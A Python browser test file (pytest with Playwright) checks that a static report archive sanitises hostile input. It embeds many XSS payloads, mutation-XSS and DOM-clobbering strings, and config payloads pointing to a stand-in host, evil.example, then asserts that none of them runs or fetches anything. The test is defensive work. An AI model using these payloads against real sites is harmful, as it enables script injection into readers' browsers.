"""No script from a report runs in a reader's browser, and no report makes it fetch anything
from outside the site.

Reports come from hostile web pages and hand-typed files; the archive is opened inside
intranets. A project copy whose reports/ holds only reports written here, each carrying XSS
payloads in its body, its title and every front-matter field, plus the reports `reform-archive
import` makes of a raw page carrying them, is built with `reform-archive build` and served on
127.0.0.1. Chromium then visits every page a reader can reach (home, the three indexes and every
page they link to, every report page) and runs the header search. A payload that runs sets
`window.__xss`, opens a dialog, logs `PWNED` or requests `/__xss_fetch`; none may happen, and no
request may leave 127.0.0.1. DOM clobbering (issue 17): a report's `id="__config"` came before
Material's and handed the theme its own search worker and base URL; every page must hold
exactly the theme's `#__config`, and a report page's ids must all be the report's, prefixed.
"""

from __future__ import annotations

import json
import random
import re
import shutil
import subprocess
import sys
from urllib.parse import unquote, urljoin, urlsplit

import feedparser
import pytest
import yaml
from playwright.sync_api import Page, expect

# The browser tests' own helpers (tests/browser/conftest.py): copy, build and serve a project.
from conftest import BuiltSite, _built_and_served, copy_project

pytestmark = pytest.mark.browser

SEARCH_TIMEOUT = 20_000  # ms: the worker loads lunr and the index before the first answer
PROBE = "/__xss_fetch"
SEARCH_WORD = "注入"
EVIL = "evil.example"

# Issue 17's payload, exactly: Material's bundle and search-ui.js read the first `#__config`.
CONFIG_PAYLOAD = (
    '<div id="__config">{"base":"../../..","features":[],"translations":{},"search":"data:text/'
    "javascript,postMessage({type:3,data:{items:[[{location:'x/',title:'\\u003cimg src=x "
    "onerror=console.log(/PWNED/)\\u003e',text:'',score:1,terms:{}}]]}})\"}</div>")
# …and with a base on another host, from which the page then fetched the search index.
EVIL_BASE_PAYLOAD = ('<div id="__config">{"base":"http://evil.example/","features":[],'
                     '"translations":{},"search":"http://evil.example/worker.js"}</div>')

# Each payload that manages to run either sets window.__xss, opens a dialog or requests PROBE.
PAYLOADS = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=2">',
    '<svg onload="window.__xss=3">',
    '<a href="javascript:window.__xss=4">点我</a>',
    '<iframe src="javascript:window.__xss=5"></iframe>',
    '<object data="data:text/html,<script>parent.__xss=6</script>"></object>',
    '"><script>window.__xss=7</script>',
    "</title><script>window.__xss=8</script>",
    "<style>body{background:url(javascript:window.__xss=9)}</style>",
    '<details open ontoggle="window.__xss=10">',
    "[点我](javascript:window.__xss=11)",
    "![图](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMTIpIi8+)",
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(13)%22/>">',
    "<script>fetch('/__xss_fetch')</script>",
    "<img src=x onerror=\"fetch('/__xss_fetch')\">",
    '<a href="jav&#x09;ascript:window.__xss=14">点我</a>',
    '<a href="&#106;avascript:window.__xss=15">点我</a>',
    '<input autofocus onfocus="window.__xss=16">',
    '<svg><style><img src=x onerror="window.__xss=17"></style></svg>',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=18>"></noscript>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=19">',
    "<script>alert('__xss')</script>",
    '<body onload="window.__xss=20">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=21">',
    "'\"><img src=x onerror=window.__xss=22>",
    "{{ 7*7 }}{% raw %}<script>window.__xss=23</script>",
]

# Markdown-only tricks for the body: attribute lists, raw HTML inside Markdown, headings (the
# table of contents is built from them before the page's HTML is sanitised), escaped text that
# an unescaping step would turn into markup, code spans.
BODY_EXTRAS = [
    '点我的段落\n{: onclick="window.__xss=30" onmouseover="window.__xss=30" }',
    '![图](x.png){: onerror="window.__xss=31" }',
    '<div markdown="1" onmouseover="window.__xss=32">\n**加粗**\n</div>',
    '## 小节一 <img src=x onerror="window.__xss=33">',
    "## 小节二 &lt;img src=x onerror=window.__xss=34&gt;",
    "## 小节三 `<img src=x onerror=window.__xss=35>`",
    "## 小节四 <script>window.__xss=36</script>",
    "正文中的转义文字 &lt;img src=x onerror=\"fetch('/__xss_fetch')\"&gt; 与代码 "
    "`<img src=x onerror=\"fetch('/__xss_fetch')\">`",
    '<a href="javascript:window.__xss=37" title="\'onmouseover=\'window.__xss=38">链接</a>',
    "[链接](<javascript:window.__xss=39>) [链接](JaVaScRiPt:window.__xss=40)",
    "<img src=x onerror=\"location='javascript:window.__xss=41'\">",
    "```html\n<script>window.__xss=42</script>\n```",
    # DOM clobbering: ids and classes the theme's scripts and ours select on.
    CONFIG_PAYLOAD,
    EVIL_BASE_PAYLOAD,
    "## 一、情况 {: #__config }",
    '段落 {: #__search .md-search__input }',
    '<p id="ra-find" class="ra-report-meta md-typeset">伪造的搜索页</p>',
    '<pre class="mermaid">graph TD; A-->B</pre>',
    # Resources from outside the site: each would be fetched on load.
    f"![外部图片](https://{EVIL}/x.png)",
    f"<img src=//{EVIL}/y.png>",
    f'<img src="\\\\{EVIL}\\z.png">',
    f"![引用图片][外]\n\n[外]: http://{EVIL}/ref.png",
]

# Titles: one payload each (besides a plain prefix, so each report has its own page name).
TITLE_PAYLOADS = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=2">',
    '<svg onload="window.__xss=3">',
    '"><script>window.__xss=7</script>',
    "</title><script>window.__xss=8</script>",
    '<details open ontoggle="window.__xss=10">',
    "[点我](javascript:window.__xss=11)",
    "<img src=x onerror=\"fetch('/__xss_fetch')\">",
    "&lt;script&gt;window.__xss=50&lt;/script&gt;",
    "{{ config.site_name }}<script>alert(1)</script>",
]


def _chinese(seed: int, n: int = 400) -> str:
    """Text unique to one report, so that near-duplicate detection keeps every report."""
    rng = random.Random(seed)
    return "".join(chr(rng.randint(0x4E00, 0x9FA5)) for _ in range(n))


def _body(i: int) -> str:
    blocks = [f"## 调研概况\n\n这是第 {i} 篇{SEARCH_WORD}测试报告。{_chinese(i)}。"]
    # The Markdown tricks first: an unclosed payload below (`<details open …>`) makes the rest
    # of the text one raw HTML block, where Markdown would not read them.
    blocks += BODY_EXTRAS
    for payload in PAYLOADS:
        blocks.append(payload)                                  # a block of its own
        blocks.append(f"一句话中间的载荷 {payload} 之后的文字。")   # inline, inside a paragraph
    blocks.append(f"结尾：{_chinese(1000 + i, 100)}。")
    return "\n\n".join(blocks) + "\n"


def _report(i: int, title_payload: str) -> tuple[str, dict, str]:
    n = len(PAYLOADS)
    meta = {
        "title": f"注入报告{i}号 {title_payload}",
        "year": 2001 + i if i % 5 else None,
        "region": PAYLOADS[i % n] + PAYLOADS[(i + 1) % n],
        "topic": [PAYLOADS[(i + 2) % n], PAYLOADS[(i + 3) % n], "机构编制"],
        "keywords": [PAYLOADS[(i + 4) % n], PAYLOADS[(i + 5) % n], SEARCH_WORD],
        "source": {
            "page_title": PAYLOADS[(i + 6) % n],
            "section": PAYLOADS[(i + 7) % n],
            "file": PAYLOADS[(i + 8) % n],
            "captured": PAYLOADS[(i + 9) % n],
            "note": PAYLOADS[(i + 10) % n],
            # The citation's issuing body (site/citation.py) reads these first.
            "author": PAYLOADS[(i + 13) % n],
            "outlet": PAYLOADS[(i + 14) % n],
        },
        "summary": PAYLOADS[(i + 11) % n],
        "date": PAYLOADS[(i + 12) % n],
    }
    # safe_dump quotes every value that needs it, so the YAML is valid.
    text = ("---\n" + yaml.safe_dump(meta, allow_unicode=True, sort_keys=False, width=1000)
            + "---\n\n" + _body(i))
    return f"xss-{i}.md", meta, text


REPORTS = [_report(i, payload) for i, payload in enumerate(TITLE_PAYLOADS)]

# A raw page as copied from a hostile site, for `reform-archive import`: its outline lines become
# headings (an attribute list there once gave `<h2 id="__config">`), its text carries the payloads.
IMPORTED_TITLE = "某县注入测试调研报告"
RAW_PAGE = "\n".join([
    IMPORTED_TITLE,
    "时间:2022-05-03 12:20:39",
    f"这是一篇{SEARCH_WORD}测试的导入页面。{_chinese(7777)}。",
    "一、情况 {: #__config }",
    f"正文说明文字，{_chinese(7778, 80)}。",
    CONFIG_PAYLOAD,
    EVIL_BASE_PAYLOAD,
    "二、问题 {: #__search .md-search__input }",
    f"![外部图片](https://{EVIL}/imported.png) 与 <img src=//{EVIL}/imported2.png> 之后的文字。",
    f"结尾：{_chinese(7779, 80)}。",
]) + "\n"


@pytest.fixture(scope="module")
def xss_site(tmp_path_factory):
    """mkdocs.yml and docs/ of the repository, and a reports/ holding only the payload reports,
    built with `reform-archive build` and served on 127.0.0.1."""
    project = copy_project(tmp_path_factory.mktemp("browser_xss") / "project")
    shutil.rmtree(project / "reports")
    (project / "reports").mkdir()
    for file_name, _, text in REPORTS:
        (project / "reports" / file_name).write_text(text, encoding="utf-8")
    raw = project.parent / "注入页面.txt"
    raw.write_text(RAW_PAGE, encoding="utf-8")
    imported = subprocess.run([sys.executable, "-m", "reform_archive", "import", str(raw),
                               "--out", str(project / "reports")], capture_output=True, text=True)
    assert imported.returncode == 0 and "1 imported" in imported.stdout, imported.stdout + imported.stderr
    served = _built_and_served(project)
    site = next(served)
    yield site
    served.close()


@pytest.fixture(scope="module")
def catalogue(xss_site: BuiltSite) -> list[dict]:
    return json.loads((xss_site.site / "data" / "reports.json").read_text(encoding="utf-8"))


# --- recording what the page does -------------------------------------------------------------

class Watch:
    """Dialogs, requests and `window.__xss` values seen while the page is driven."""

    def __init__(self, page: Page, site: BuiltSite):
        self.page = page
        self.local = urlsplit(site.base_url).netloc
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.fired: list[tuple[str, object]] = []
        self.unsafe_markup: list[tuple[str, list[str]]] = []
        self.console: list[str] = []
        self.clobbered: list[tuple[str, list[str]]] = []
        page.on("dialog", self._dialog)
        page.on("console", lambda message: self.console.append(f"{message.text} on {self.page.url}"))
        page.context.on("request", lambda request: self.requests.append(request.url))

    def _dialog(self, dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message} on {self.page.url}")
        dialog.dismiss()

    def visit(self, url: str) -> None:
        response = self.page.goto(url)
        assert response is not None and response.status == 200, url
        self.settle()

    def settle(self) -> None:
        """Give handlers that fire after parsing (onerror, ontoggle, onfocus) time to run, then
        look for their traces in every frame."""
        self.page.wait_for_load_state("load")
        self.page.wait_for_timeout(150)
        for frame in self.page.frames:
            try:
                value = frame.evaluate("() => window.__xss")
            except Exception as exc:  # a frame that navigated away meanwhile
                value = f"<not evaluated: {exc}>"
            if value is not None:
                self.fired.append((frame.url, value))
        found = self.page.evaluate(r"""() => {
            const bad = [];
            const urlAttrs = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href',
                              'poster', 'background', 'srcdoc', 'content', 'srcset'];
            for (const el of document.querySelectorAll('*')) {
                for (const attr of el.attributes) {
                    const name = attr.name.toLowerCase();
                    const value = attr.value.replace(/[\s\u0000-\u001f]+/g, '').toLowerCase();
                    if (name.startsWith('on') || name === 'srcdoc')
                        bad.push(`${el.tagName} ${attr.name}=${attr.value}`);
                    else if (urlAttrs.includes(name)
                             && (/(^|url=)(javascript|vbscript|data:text\/html)/.test(value)
                                 || (value.startsWith('data:') && name !== 'src')))
                        bad.push(`${el.tagName} ${attr.name}=${attr.value}`);
                }
                if (['IFRAME', 'OBJECT', 'EMBED', 'FRAME', 'BASE'].includes(el.tagName))
                    bad.push(`<${el.tagName}>`);
            }
            for (const s of document.querySelectorAll('article script, article style'))
                bad.push(`<${s.tagName}> in article: ${s.textContent.slice(0, 60)}`);
            return bad;
        }""")
        if found:
            self.unsafe_markup.append((unquote(self.page.url), found))
        # DOM clobbering: the theme's configuration is the one `#__config`, its own; on a report
        # page every id in the article is the report's (prefixed `r-`), ours or the theme's.
        clobbered = self.page.evaluate(r"""() => {
            const bad = [];
            const configs = [...document.querySelectorAll('[id="__config"]')];
            if (configs.length !== 1 || configs[0].tagName !== 'SCRIPT')
                bad.push(`#__config: ${configs.map(e => e.outerHTML.slice(0, 80)).join(' | ')}`);
            for (const id of ['__search', '__drawer', 'ra-find'])
                if (document.querySelectorAll(`[id="${id}"]`).length > 1) bad.push(`#${id} twice`);
            if (location.pathname.startsWith('/reports/'))
                for (const el of document.querySelectorAll('.md-content article [id]'))
                    // (Material's script numbers code blocks itself: __code_0, __code_1 …)
                    if (!/^(r-|other-versions$|related$|cite$|__code_\d+$)/.test(el.id)) bad.push(`article #${el.id}`);
            for (const el of document.querySelectorAll('.md-content article [class*="md-search"], .md-content article .mermaid'))
                bad.push(`article .${el.className}`);
            // The table of contents still leads to the headings it lists.
            for (const a of document.querySelectorAll('.md-nav--secondary a[href^="#"]'))
                if (!document.getElementById(decodeURIComponent(a.getAttribute('href').slice(1))))
                    bad.push(`toc link ${a.getAttribute('href')} leads nowhere`);
            return bad;
        }""")
        if clobbered:
            self.clobbered.append((unquote(self.page.url), clobbered))
        # A `javascript:` link runs only when clicked: click each one, as a reader would.
        clicked = self.page.evaluate(r"""() => {
            const links = [...document.querySelectorAll('a[href]')].filter(a =>
                /^javascript:/i.test(a.getAttribute('href').replace(/[\s\u0000-\u001f]+/g, '')));
            links.forEach(a => a.click());
            return links.map(a => a.outerHTML);
        }""")
        if clicked:
            self.page.wait_for_timeout(150)
            value = self.page.evaluate("() => window.__xss")
            if value is not None:
                self.fired.append((f"{unquote(self.page.url)} after clicking {clicked}", value))

    def check(self) -> None:
        assert self.fired == [], f"payload ran: window.__xss set on {self.fired}"
        assert self.dialogs == [], f"payload opened dialogs: {self.dialogs}"
        probes = [u for u in self.requests if urlsplit(u).path == PROBE]
        assert probes == [], f"payload sent requests: {probes}"
        pwned = [m for m in self.console if "PWNED" in m]
        assert pwned == [], f"payload ran: {pwned}"
        scripts = [u for u in self.requests if u.startswith(("data:text/javascript", "data:application"))]
        assert scripts == [], f"script loaded from data: URLs: {scripts}"
        assert self.clobbered == [], "report markup reaching the page's scripts:\n" + "\n".join(
            f"{url}: {found}" for url, found in self.clobbered)
        outside = sorted({u for u in self.requests
                          if not (u.startswith(("data:", "blob:", "about:"))
                                  or urlsplit(u).netloc == self.local)})
        assert outside == [], f"requests leaving 127.0.0.1: {outside}"
        html_data = [u for u in self.requests if u.startswith("data:text/html")]
        assert html_data == [], f"HTML loaded from data: URLs: {html_data}"
        assert self.unsafe_markup == [], "script-capable markup left in pages:\n" + "\n".join(
            f"{url}: {found}" for url, found in self.unsafe_markup)


def links_in(page: Page, selector: str) -> list[str]:
    return page.eval_on_selector_all(
        selector, "els => els.map(a => new URL(a.getAttribute('href'), document.baseURI).href)")


def plain(text: str) -> str:
    """Text without the zero-width spaces Material's Chinese search puts between words."""
    return re.sub(r"[\u200b\s]+", "", text)


# --- the tests ---------------------------------------------------------------------------------

def test_every_payload_report_is_built(catalogue):
    """The build accepts every payload report: none is left out or merged away, so the pages
    below really carry the payloads."""
    titles = sorted([" ".join(meta["title"].split()) for _, meta, _ in REPORTS] + [IMPORTED_TITLE])
    assert sorted(r["title"] for r in catalogue) == titles
    assert all(r["duplicate_of"] is None for r in catalogue), catalogue


def test_the_build_warns_of_each_external_image(xss_site: BuiltSite):
    """Every image from outside the site is named in the build's warnings, with its report."""
    log = (xss_site.project / "build.log").read_text(encoding="utf-8")
    for file_name, _, _ in REPORTS:
        for url in (f"https://{EVIL}/x.png", f"//{EVIL}/y.png", f"http://{EVIL}/ref.png"):
            assert f"reports/{file_name}: image from outside the site not loaded, shown as a link: {url}" in log, url


def test_no_payload_runs_on_any_page(page: Page, xss_site: BuiltSite, catalogue):
    watch = Watch(page, xss_site)
    visited: set[str] = set()

    def visit(url: str) -> None:
        url = url.split("#")[0]
        if url not in visited:
            visited.add(url)
            watch.visit(url)

    visit(xss_site.url())
    for index in ("topics/", "years/", "regions/"):
        visit(xss_site.url(index))
        # Every page the index links to: each topic (the payload topics too), year, region.
        for target in links_in(page, ".ra-counts a"):
            assert urlsplit(target).netloc == watch.local, target
            visit(target)
    for record in catalogue:
        visit(urljoin(xss_site.base_url, record["url"]))

    paths = {unquote(urlsplit(u).path) for u in visited}
    report_paths = {unquote(r["url"]) for r in catalogue}
    assert report_paths <= paths
    # Sanity: the payload topics and regions have index pages, and they were visited.
    assert sum(p.startswith("/topics/") for p in paths) > 1 + 10, sorted(paths)
    assert sum(p.startswith("/regions/") for p in paths) > 1, sorted(paths)
    assert sum(p.startswith("/years/") for p in paths) > 1, sorted(paths)
    watch.check()


def test_payload_titles_are_shown_as_text(page: Page, xss_site: BuiltSite, catalogue):
    watch = Watch(page, xss_site)
    by_title = {r["title"]: r for r in catalogue}
    for _, meta, _ in REPORTS:
        title = " ".join(meta["title"].split())
        watch.visit(urljoin(xss_site.base_url, by_title[title]["url"]))
        # The title is text: its `<`, `>`, `"`, `&` are shown, not parsed (nor escaped twice).
        expect(page.locator("article h1").first).to_have_text(title)
        assert page.locator("article h1 script, article h1 img, article h1 svg").count() == 0
        assert title in page.title(), (page.title(), title)
        # The metadata block shows the payload fields as text too.
        meta_text = page.locator(".ra-report-meta").inner_text()
        assert meta["keywords"][0] in meta_text, meta_text
        assert meta["source"]["page_title"] in meta_text, meta_text
    watch.check()


def test_search_shows_payload_reports_without_running_them(page: Page, xss_site: BuiltSite,
                                                           catalogue):
    watch = Watch(page, xss_site)
    watch.visit(xss_site.url())
    field = page.locator(".md-search__input")
    field.click()
    page.keyboard.type(SEARCH_WORD)
    page.keyboard.press("End")  # Material reads the field on keyup
    expect(field).to_have_value(SEARCH_WORD)
    items = page.locator(".md-search-result__item")
    expect(items.first).to_be_visible(timeout=SEARCH_TIMEOUT)
    page.wait_for_timeout(300)
    watch.settle()
    titles = [plain(t) for t in page.locator(".md-search-result__item h1").all_inner_texts()]
    assert any(t.startswith("注入报告") for t in titles), titles
    # The result titles show the payloads as text.
    assert any("<" in t for t in titles if t.startswith("注入报告")), titles

    # Search for the payload text itself: the snippets show it, nothing runs.
    field.fill("")
    page.keyboard.type("onerror")
    page.keyboard.press("End")
    page.wait_for_timeout(1000)
    watch.settle()

    # Follow a result: the page opens with the search term highlighted (search.highlight).
    field.fill("")
    page.keyboard.type(SEARCH_WORD)
    page.keyboard.press("End")
    link = page.locator(".md-search-result__item > a.md-search-result__link").first
    expect(link).to_be_visible(timeout=SEARCH_TIMEOUT)
    with page.expect_navigation():
        link.click()
    assert unquote(urlsplit(page.url).path).startswith("/reports/"), page.url
    watch.settle()
    watch.check()


def test_new_places_show_payloads_as_text(page: Page, xss_site: BuiltSite, catalogue):
    """Issue 15's blocks: the citation (title, issuing body), the related list, the home page's
    map (regions off the map are listed under it) and timeline hold the payloads as text."""
    watch = Watch(page, xss_site)
    by_title = {r["title"]: r for r in catalogue}
    for _, meta, _ in REPORTS:
        title = " ".join(meta["title"].split())
        watch.visit(urljoin(xss_site.base_url, by_title[title]["url"]))
        cite = page.locator("p.ra-cite-text")
        expect(cite).to_contain_text(f"{title}[EB/OL]")
        expect(cite).to_contain_text(" ".join(meta["source"]["author"].split()))
        assert page.locator(".ra-cite script, .ra-cite img, .ra-cite svg, .ra-related img, .ra-related script").count() == 0
        # The copy button copies text: clicking it runs nothing.
        page.locator(".ra-cite-copy").first.click()
        related = page.locator(".ra-related li > a").all_inner_texts()
        assert all(t.strip() in by_title for t in related), related
    watch.visit(xss_site.url())
    apart = page.locator(".ra-map-apart").inner_text()
    regions = {r["region"] for r in catalogue if r["region"]}
    assert any(region.strip() in apart for region in regions), apart
    assert page.locator(".ra-map script, .ra-map img, .ra-map foreignObject, .ra-map-apart img").count() == 0
    watch.check()


def test_feeds_hold_payloads_as_text(xss_site: BuiltSite, catalogue):
    titles = {r["title"] for r in catalogue}
    feed = feedparser.parse((xss_site.site / "feed.xml").read_bytes())
    assert not feed.bozo, feed.get("bozo_exception")
    assert {e.title for e in feed.entries} == titles
    for entry in feed.entries:
        # A reader renders the description as HTML: what arrives there is text, escaped once.
        assert not re.search(r"<(script|img|svg|iframe|object)", entry.summary, re.I), entry.summary
    data = json.loads((xss_site.site / "feed.json").read_text(encoding="utf-8"))
    assert {item["title"] for item in data["items"]} == titles
